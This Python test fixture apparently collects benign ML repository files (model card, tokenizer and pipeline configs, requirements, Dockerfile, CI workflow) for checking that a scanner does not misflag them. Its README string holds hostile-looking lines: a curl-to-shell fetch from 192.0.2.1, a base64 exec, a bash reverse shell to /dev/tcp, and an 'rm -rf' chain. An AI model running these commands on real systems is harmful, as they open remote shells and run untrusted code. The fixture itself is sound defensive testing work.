"""Configuration, model cards and lists of packages as honest repositories have them."""

from __future__ import annotations

import json

README = """---
license: apache-2.0
base_model: acme/base
datasets:
- acme/data
tags:
- text-generation
---
# Acme

Never do this with a pickle from a stranger:

```python
import os, base64
os.system("curl http://192.0.2.1/x | sh")
exec(base64.b64decode("aW1wb3J0IG9z"))
```

```bash
export HF_TOKEN=hf_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx
curl -LsSf https://astral.sh/uv/install.sh | sh
bash -i >& /dev/tcp/10.0.0.1/8080 0>&1   # what the attack looked like
```

@misc{acme2024, title={eval(uate) and exec(ute)}, url={http://192.0.2.1/paper}}
"""
README_SHELL = (
    README
    + """
    wget https://huggingface.co/acme/gguf/resolve/main/acme.Q4_K_M.gguf
    ./llama-cli -m acme.Q4_K_M.gguf -p "You are" && rm -rf ~/old
"""
)
GENERATION = json.dumps({"eos_token_id": [1, 2], "transformers_version": "4.44.0"})
CHAT = json.dumps(
    {
        "added_tokens_decoder": {"0": {"content": "<unk>", "special": True}},
        "chat_template": "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n'"
        " + message['content'] + '<|im_end|>' + '\\n' }}{% endfor %}"
        "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}",
        "tokenizer_class": "AcmeTokenizer",
    }
)
DIFFUSERS = {
    "model_index.json": json.dumps(
        {
            "_class_name": "StableDiffusionPipeline",
            "_diffusers_version": "0.29.0",
            "feature_extractor": ["transformers", "CLIPImageProcessor"],
            "safety_checker": ["stable_diffusion", "StableDiffusionSafetyChecker"],
            "scheduler": ["diffusers", "PNDMScheduler"],
            "unet": ["diffusers", "UNet2DConditionModel"],
            "image_encoder": [None, None],
            "requires_safety_checker": True,
        }
    ),
    "unet/config.json": json.dumps({"_class_name": "UNet2DConditionModel", "sample_size": 64}),
    "scheduler/scheduler_config.json": json.dumps({"_class_name": "PNDMScheduler"}),
}
SENTENCES = {
    "modules.json": json.dumps(
        [
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "name": "1", "path": "1", "type": "sentence_transformers.models.Pooling"},
        ]
    ),
    "1/config.json": json.dumps({"word_embedding_dimension": 384}),
    "config_sentence_transformers.json": json.dumps({"__version__": {"pytorch": "2.1.0"}}),
}
ADAPTER = json.dumps(
    {
        "base_model_name_or_path": "acme/base",
        "peft_type": "LORA",
        "target_modules": "^(?!.*patch).*(?:q_proj|v_proj).*",
        "auto_mapping": None,
        "attn_implementation": "flash_attention_2",
    }
)
TIMM = json.dumps({"architecture": "resnet50", "pretrained_cfg": {"license": "apache-2.0"}})
SPACY = {
    "meta.json": json.dumps({"lang": "en", "name": "core", "requirements": ["spacy>=3.7"]}),
    "config.cfg": '[nlp]\nlang = "en"\n\n[components.ner]\nfactory = "ner"\n\n'
    '[components.ner.model]\n@architectures = "spacy.TransitionBasedParser.v2"\n',
    "tokenizer": "spaces and (?:words)\n",
    "en_core/__init__.py": "from pathlib import Path\nfrom spacy.util import load_model_from_init_py\n"
    "\n\ndef load(**overrides):\n    return load_model_from_init_py(__file__, **overrides)\n",
}
MLFLOW = {
    "MLmodel": """artifact_path: model
flavors:
  python_function:
    env:
      conda: conda.yaml
      virtualenv: python_env.yaml
    loader_module: mlflow.sklearn
    model_path: model.pkl
    predict_fn: predict
    python_version: 3.10.12
  sklearn:
    code: null
    pickled_model: model.pkl
    serialization_format: cloudpickle
    sklearn_version: 1.4.0
mlflow_version: 2.10.0
model_uuid: 3f0d5c2a6b1e4c7f9a8b7c6d5e4f3a2b
utc_time_created: '2024-02-01 10:00:00.000000'
""",
    "conda.yaml": "channels:\n- conda-forge\ndependencies:\n- python=3.10.12\n- pip<=23.0\n- pip:\n"
    "  - mlflow==2.10.0\n  - scikit-learn==1.4.0 ; python_version >= '3.9'\nname: mlflow-env\n",
    "python_env.yaml": "python: 3.10.12\nbuild_dependencies:\n- pip==23.0\n- setuptools\n"
    "dependencies:\n- -r requirements.txt\n",
    "requirements.txt": "mlflow==2.10.0\nscikit-learn==1.4.0\n",
}
NEMO = """name: acme
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: 16000
optim:
  name: adamw
  sched:
    _target_: torch.optim.lr_scheduler.CosineAnnealingLR
trainer:
  _target_: pytorch_lightning.Trainer
"""
SPEECHBRAIN = """seed: 1986
__set_seed: !apply:torch.manual_seed [!ref <seed>]
sample_rate: 16000
output_folder: !ref results/<seed>
compute_features: !new:speechbrain.lobes.features.Fbank
    n_mels: 80
lin: !new:torch.nn.Linear
    in_features: 4
    out_features: 4
activation: !name:torch.nn.LeakyReLU
modules:
    lin: !ref <lin>
pretrainer: !new:speechbrain.utils.parameter_transfer.Pretrainer
    collect_in: !ref <output_folder>
    loadables: {lin: !ref <lin>}
"""
HYDRA = """defaults:
  - _self_
  - model: base
model:
  _target_: src.models.acme.AcmeModule
  optimizer:
    _target_: torch.optim.Adam
    _partial_: true
  net:
    _target_: torchvision.models.resnet18
callbacks:
  checkpoint:
    _target_: lightning.pytorch.callbacks.ModelCheckpoint
    dirpath: ${paths.output_dir}
logger:
  _target_: lightning.pytorch.loggers.wandb.WandbLogger
path:
  _target_: pathlib.Path
  _args_: [data]
"""
DETECTION = (
    "MODEL:\n  META_ARCHITECTURE: RCNN\n  SIZES: !!python/tuple [1, 2]\nDATASETS: {TRAIN: [a]}\n"
)
AXOLOTL = (
    "base_model: acme/base\ntrust_remote_code: true\nload_in_4bit: true\nflash_attention: true\n"
)
LIGHTNING = """args: !!python/object:argparse.Namespace
  lr: 0.1
dtype: !!python/name:torch.float32
path: !!python/object/apply:pathlib.PosixPath
- data
"""
OPENVINO = '<?xml version="1.0"?>\n<net name="acme" version="11">\n<layers/>\n<edges/>\n</net>\n'
PMML = '<?xml version="1.0"?>\n<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"></PMML>\n'
SVG = (
    '<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
    '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"/>\n'
)
INDEX = json.dumps({"metadata": {}, "weight_map": {"a": "model-00001-of-00002.safetensors"}})
RESULTS = json.dumps(
    {"config": {"model_args": "pretrained=acme,trust_remote_code=True"}, "exec_time": 3, "eval": 1}
)
VOCABULARY = "\n".join(
    ["[PAD]", "import", "os", "system", "exec(", "eval", "http", "##sh", "/dev/tcp"]
)
REQUIREMENTS = {
    "plain": "torch>=2.0,<3\ntransformers[torch]==4.44.0\nnumpy; python_version < '3.12'\n# note\n",
    "torch-index": "--extra-index-url https://download.pytorch.org/whl/cu121\n-i https://pypi.org/simple\n"
    "torch==2.3.0+cu121\n",
    "git": "-e .\ngit+https://github.com/huggingface/transformers.git@main\n"
    "acme @ https://github.com/acme/acme/releases/download/v1/acme-1.0-py3-none-any.whl\n",
    "mirror": "-i https://pypi.tuna.tsinghua.edu.cn/simple\n--find-links https://data.pyg.org/whl/x.html\n"
    "requests>=2 ; sys_platform == 'linux' and (python_version > '3.8' or extra == 'x')\n",
    "old-markers": "setuptools>=60; sys.platform=='win32'\nfcntl ; os.name == 'posix'\n",
    "hashes": "torch==2.0 \\\n    --hash=sha256:"
    + "0" * 64
    + " \\\n    --hash=sha256:"
    + "1" * 64
    + "\n",
}
PYPROJECT = """[build-system]
requires = ["setuptools>=61", "wheel"]
build-backend = "setuptools.build_meta"

[project]
name = "acme"
dependencies = ["torch", "numpy>=1.20; python_version>'3.8'"]
"""
CONDA = "name: acme\nchannels: [pytorch, nvidia]\ndependencies:\n  - python=3.10\n  - pip:\n    - timm\n"
DOCKERFILE = """FROM nvidia/cuda:12.1.0-devel-ubuntu22.04
RUN apt-get update && apt-get install -y curl git && rm -rf /var/lib/apt/lists/*
RUN curl -fsSL https://deb.nodesource.com/setup_18.x | bash -
RUN wget -q https://example.org/model.tar.gz && tar xzf model.tar.gz && rm model.tar.gz
RUN pip install --no-cache-dir -r requirements.txt
CMD ["python", "app.py"]
"""
COMPOSE = (
    "services:\n  web:\n    build: .\n    command: bash -c 'python app.py'\n    ports: ['80:80']\n"
)
WORKFLOW = """on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    env: {HF_TOKEN: "${{ secrets.HF_TOKEN }}"}
    steps:
    - uses: actions/checkout@v4
    - run: |
        pip install -e .
        git push https://user:$HF_TOKEN@huggingface.co/spaces/acme/acme main
"""
BENTO = """service: service:svc
include: ["*.py"]
python:
  packages: [torch, transformers>=4.0]
docker:
  distro: debian
  python_version: "3.10"
  system_packages: [ffmpeg, git]
"""

LATENT_DIFFUSION = """
model:
  base_learning_rate: 1.0e-04
  target: ldm.models.diffusion.ddpm.LatentDiffusion
  params:
    timesteps: 1000
    scheduler_config:
      target: ldm.lr_scheduler.LambdaLinearScheduler
      params: {warm_up_steps: [10000]}
    first_stage_config:
      target: ldm.models.autoencoder.AutoencoderKL
      params:
        lossconfig: {target: torch.nn.Identity}
"""

YOLO = """
nc: 80
activation: nn.LeakyReLU(0.1)
scales:
  n: [0.50, 0.25, 1024]
backbone:
  - [-1, 1, Conv, [64, 3, 2]]
  - [-1, 2, C3k2, [256, False, 0.25]]
head:
  - [-1, 1, nn.Upsample, [None, 2, "nearest"]]
  - [[-1, 6], 1, Concat, [1]]
  - [[16, 19, 22], 1, Detect, [nc]]
"""

YOLO_DATA = """
path: ../datasets/acme
train: images/train
val: images/val
names: {0: person, 1: bicycle}
download: |
  from pathlib import Path

  from ultralytics.utils.downloads import download

  folder = Path(yaml["path"])
  download(["https://example.com/labels.zip"], dir=folder.parent)
  for image in folder.rglob("*.txt"):
      image.rename(folder / image.name)
"""
